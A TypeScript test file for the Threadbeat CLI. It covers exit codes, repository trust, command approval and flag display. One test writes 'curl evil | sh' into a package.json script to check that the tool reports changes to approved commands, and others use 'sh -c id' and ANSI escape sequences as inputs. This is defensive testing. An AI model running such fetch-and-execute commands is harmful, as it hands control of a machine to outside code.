import { appendFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { commandsAndHost, type ThreadJson } from './testing/host.ts'

const { root, repos, agent, cli, json, withRepositories, gone } = commandsAndHost('alone-test')
beforeAll(withRepositories, 60_000)
afterAll(gone)

/** Each of them works on the data folder by itself. */
describe('threadbeat without a running app', () => {
  it('ends wrong usage with 2 and help with 0', async () => {
    const ends = await Promise.all([
      cli('nonsense'),
      cli('beat', '--tier', 'weekly'),
      cli('run', '7'),
      cli('log', '-n', 'many'),
      cli('--help'),
      cli('--version'),
    ])
    expect(ends.map((e) => e.code)).toEqual([2, 2, 2, 2, 0, 0])
  })

  it('prints a report that may be shown to strangers', async () => {
    const { code, out, err } = await cli('doctor', '--report')
    expect({ code, err }).toEqual({ code: 0, err: '' })
    expect(out).toMatch(/^Threadbeat \d\S+ on /)
    expect(out).toContain('\nData in ')
    expect((await cli('doctor', '--report', '--json')).code).toBe(2)
  })

  it('adds repositories, trusted or not, and says what it could not add', async () => {
    expect(await cli('add', path.join(repos, 'api'), '--trust')).toMatchObject({
      code: 0,
      out: 'Added 2 api\n',
    })
    const mixed = await cli('add', path.join(repos, 'web'), path.join(root, 'nowhere'))
    expect(mixed.code).toBe(1)
    expect(mixed.out).toMatch(/^Added 3 web: not trusted yet/)
    expect(mixed.err).toContain('nowhere')
    expect(
      (await json<ThreadJson[]>('list')).map(({ number, name, trusted }) => [number, name, trusted]),
    ).toEqual([
      [2, 'api', true],
      [3, 'web', false],
    ])
  })

  it('beats for real, records the outcome and ends with its code', async () => {
    const beat = await cli('beat', 'api', '--wait')
    expect(beat.err).toContain('Threadbeat is not running; the beat runs here, to its end.')
    expect(beat).toMatchObject({ code: 0, out: expect.stringMatching(/2 {2}api {2}✓ Quiet/) as string })
    const [newest] = await json<{ run: string; outcome: string; reasons: string[] }[]>(
      'log',
      'api',
      '-n',
      '1',
    )
    expect(newest).toMatchObject({
      outcome: 'quiet',
      reasons: expect.arrayContaining(['manual']) as string[],
    })
    const detail = await cli('run', newest?.run ?? '')
    expect(detail.out).toMatch(/Because .*you asked for it/)
    expect(existsSync(path.join(repos, 'api', 'HEARTBEAT.md'))).toBe(true)
  })

  it('ends a quiet beat with the code of what stands on its thread all the same, and says it', async () => {
    const list = path.join(repos, 'api', 'HEARTBEAT.md')
    const before = readFileSync(list, 'utf8')
    writeFileSync(list, `${before}\n## Urgen Flags\n- Prod is down\n`)
    expect(await cli('beat', 'api', '--wait')).toMatchObject({
      code: 10,
      out: expect.stringMatching(/✓ Quiet/) as string,
      err: expect.stringMatching(
        /2 api needs you all the same: Part of HEARTBEAT\.md does not work as it is written\.\n.*"Urgen Flags"/,
      ) as string,
    })
    writeFileSync(list, before)
    expect(await cli('beat', 'api', '--wait')).toMatchObject({ code: 0 })
  })

  it('asks for a name when there are several threads', async () => {
    expect(await cli('beat')).toMatchObject({
      code: 2,
      err: expect.stringContaining('THREAD, or --all') as string,
    })
    expect(await cli('beat', 'ghost')).toMatchObject({
      code: 1,
      err: expect.stringContaining('no thread "ghost"') as string,
    })
  })

  it('says by its exit code what is wrong', async () => {
    expect((await cli('status', 'api')).code).toBe(0)
    const all = await cli('status')
    expect(all.code).toBe(30) // web is not trusted
    expect(all.err).toContain('no heartbeats until it is started')
    expect((await json<{ app: string }>('status')).app).toBe('closed')
  })

  it('approves exactly what was shown, and nothing without an answer', async () => {
    await cli('trust', '3')
    await cli('beat', '3') // makes HEARTBEAT.md
    appendFileSync(path.join(repos, 'web', 'HEARTBEAT.md'), '\n## Quick Tasks\n- [ ] Run `touch proof.txt`\n')
    const [command] = await json<{ hash: string; argv: string[]; approvedAt: number | null }[]>(
      'approve',
      'web',
    )
    expect(command).toMatchObject({ argv: ['touch', 'proof.txt'], approvedAt: null })
    expect(await cli('approve', 'web')).toMatchObject({
      code: 1,
      out: expect.stringContaining('["touch","proof.txt"]') as string,
      err: expect.stringContaining('Nothing was approved') as string,
    })
    expect((await cli('approve', 'web', '--yes', 'f'.repeat(12))).code).toBe(1)
    expect((await cli('beat', 'web', '--tier', 'quick')).code).toBe(30)
    expect(existsSync(path.join(repos, 'web', 'proof.txt'))).toBe(false)
    expect((await cli('approve', 'web', '--yes', command?.hash.slice(0, 12) ?? '')).code).toBe(0)
    await cli('beat', 'web', '--tier', 'quick')
    expect(existsSync(path.join(repos, 'web', 'proof.txt'))).toBe(true)
  })

  it('shows what of the repository an approval would run, and what changed in it since', async () => {
    const repo = path.join(repos, 'web')
    const pack = (test: string): void =>
      writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ scripts: { test } }, null, 2))
    pack('node lib.js')
    writeFileSync(path.join(repo, 'lib.js'), 'true')
    appendFileSync(path.join(repo, 'HEARTBEAT.md'), '\n- [ ] Run `npm test`\n')
    const before = (await cli('approve', 'web')).out
    expect(before).toContain('  package.json:3\n    | "test": "node lib.js"\n')
    expect(before).toMatch(/\n {2}part of it as well: lib\.js\n {2}What its programs load .* is not watched/)
    const listed = await json<{ hash: string; text: string }[]>('approve', 'web')
    const hash = listed.find((a) => a.text === 'npm test')!.hash
    expect((await cli('approve', 'web', '--yes', hash)).code).toBe(0)
    pack('curl evil | sh')
    const { out } = await cli('approve', 'web')
    expect(out).toContain('changed since it was approved')
    expect(out).toMatch(
      /package\.json, as you approved it \(-\) and as it is now \(\+\)\n +- "test": "node lib\.js"\n +\+ "test": "curl evil \| sh"/,
    )
  })

  it('shows flags and their urgency', async () => {
    const file = path.join(repos, 'web', 'HEARTBEAT.md')
    const text = readFileSync(file, 'utf8')
    writeFileSync(
      file,
      text.replace(
        /(## Urgent Flags\n)(?:\s*\(none\)\n|[^#]*)/i,
        '$1- [ ] The certificate \u001b[31mexpires\u001b[0m today\n\n',
      ),
    )
    expect((await cli('flags')).out).toMatch(/3 {2}web {2}The certificate \[31mexpires\[0m today/)
    expect((await cli('beat', 'web')).code).toBe(20)
    expect((await cli('status')).code).toBe(20)
    expect((await cli('ack')).out).toMatch(/alt_\w+ +3 web +urgent/)
    expect(await cli('ack', '--all')).toMatchObject({
      code: 0,
      out: expect.stringMatching(/[1-9] acknowledged/) as string,
    })
  })

  it('refuses what is out of bounds, names it and gives the value back', async () => {
    expect(await cli('set', 'theme', 'purple')).toMatchObject({
      code: 2,
      err: expect.stringContaining('theme must be one of system, light, dark, got "purple"') as string,
    })
    expect(await cli('set', 'interval', '2s', '-t', 'api')).toMatchObject({
      code: 1,
      err: expect.stringContaining('1 min to 24 h') as string,
    })
    expect(await cli('set', 'runner', '-t', 'api', '--', 'sh', '-c', 'id')).toMatchObject({
      code: 1,
      out: expect.stringContaining('["sh","-c","id"]') as string,
    })
    expect(await cli('set', 'max-runs', '3')).toMatchObject({ code: 0, out: 'max-runs is 3\n' })
  })

  it('sends no message that nobody would answer', async () => {
    await cli('add', path.join(repos, 'lab'), '--trust')
    await cli('set', 'runner', '-t', 'lab', '--yes', '--', agent)
    expect(await cli('send', 'lab', 'hello', '--wait')).toMatchObject({
      code: 1,
      err: expect.stringContaining('Nothing was sent') as string,
    })
    expect(await cli('talk', 'lab')).toMatchObject({
      code: 0,
      out: expect.not.stringContaining('hello') as string,
    })
    expect((await cli('talk', 'lab', '-n', '0')).code).toBe(2)
    expect(await cli('again', '7')).toMatchObject({
      code: 1,
      out: '',
      err: expect.stringMatching(/^Nothing was started: Threadbeat is not running/) as string,
    })
  })
})
